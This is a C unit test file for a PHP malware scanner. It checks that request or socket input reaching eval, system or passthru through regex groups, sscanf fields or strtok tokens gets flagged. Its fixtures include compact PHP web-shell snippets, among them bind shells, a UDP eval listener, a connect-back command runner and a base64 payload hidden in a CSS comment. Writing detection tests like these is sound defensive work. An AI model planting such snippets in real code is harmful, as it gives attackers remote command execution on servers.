/* The PHP analysis: request input that reaches a sink through a piece cut
 * out of it (a regex's groups, sscanf's fields, strtok's tokens) or through
 * a socket the script listens on or receives datagrams from. A regex whose
 * groups can hold only words is a whitelist, not a carrier. Every snippet is
 * written here from the technique, not taken from a sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

/* the groups of preg_match, preg_match_all, mb_ereg are the subject's text */
static void test_regex_groups(void **state)
{
	(void)state;
	expect("<?php preg_match('/^(.*)$/s', $_POST['d'], $m); eval($m[1]);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php if (preg_match_all('#<c>(.+?)</c>#', file_get_contents('php://input'), "
	       "$mm)) { foreach ($mm[1] as $c) system($c); }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php mb_ereg('x=(.*)', $_SERVER['HTTP_X_A'], $r); assert($r[1]);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* a payload cut out of a style sheet's comment: still the asset's */
	expect("<?php $css = file_get_contents('assets/style.min.css');\n"
	       "preg_match('#/\\*(.+?)\\*/#s', $css, $m); eval(base64_decode($m[1]));",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	/* no group: the whole match is the piece */
	expect("<?php preg_match('/[^;]+/', $_COOKIE['k'], $m); passthru($m[0]);",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

/* groups of words only: a page number, a slug; nothing to run */
static void test_word_groups(void **state)
{
	(void)state;
	quiet("<?php if (preg_match('/^page-(\\d+)$/', $_GET['p'], $m)) "
	      "{ system('ls /data/' . $m[1]); }");
	quiet("<?php if (preg_match('/^([a-z]+)-([0-9]+)$/', $_GET['q'], $k)) "
	      "{ include 'pages/' . $k[1] . '.php'; }");
	quiet("<?php if (preg_match('~^/user/([\\w.-]+)/(edit|view)$~', $_SERVER['REQUEST_URI'], "
	      "$m)) { echo htmlspecialchars($m[1]); }");
}

/* sscanf's fields and strtok's tokens */
static void test_scanned_pieces(void **state)
{
	(void)state;
	expect("<?php sscanf($_GET['x'], \"%s %s\", $a, $b); $a($b);", "php.dynamic_call_input",
	       HS_SEV_CRITICAL);
	expect("<?php $t = strtok($_COOKIE['z'], '|'); system($t);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	quiet("<?php sscanf('2024-01-02', '%d-%d-%d', $y, $m, $d); echo $y;");
}

/* a bind shell: what a client sends to the port the script listens on */
static void test_listening_sockets(void **state)
{
	(void)state;
	expect("<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '0.0.0.0', "
	       "4444); socket_listen($s); while ($c = socket_accept($s)) "
	       "{ $cmd = socket_read($c, 2048); socket_write($c, shell_exec($cmd)); }",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php $srv = stream_socket_server('tcp://0.0.0.0:8899'); "
	       "while ($c = stream_socket_accept($srv)) { $l = fgets($c); fwrite($c, `$l`); }",
	       "php.remote_command", HS_SEV_HIGH);
	expect("<?php $s = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP); socket_bind($s, "
	       "'0.0.0.0', 5353); socket_recvfrom($s, $buf, 1024, 0, $from, $port); eval($buf);",
	       "php.remote_code_exec", HS_SEV_HIGH);
	expect("<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, "
	       "'10.0.0.9', 80); socket_recv($s, $b, 4096, 0); system($b);",
	       "php.remote_command", HS_SEV_HIGH);
	/* an echo server runs nothing it reads */
	quiet("<?php $srv = stream_socket_server('tcp://127.0.0.1:9000'); "
	      "while ($c = stream_socket_accept($srv)) { fwrite($c, strtoupper(fgets($c))); }");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_regex_groups),
	    cmocka_unit_test(test_word_groups),
	    cmocka_unit_test(test_scanned_pieces),
	    cmocka_unit_test(test_listening_sockets),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
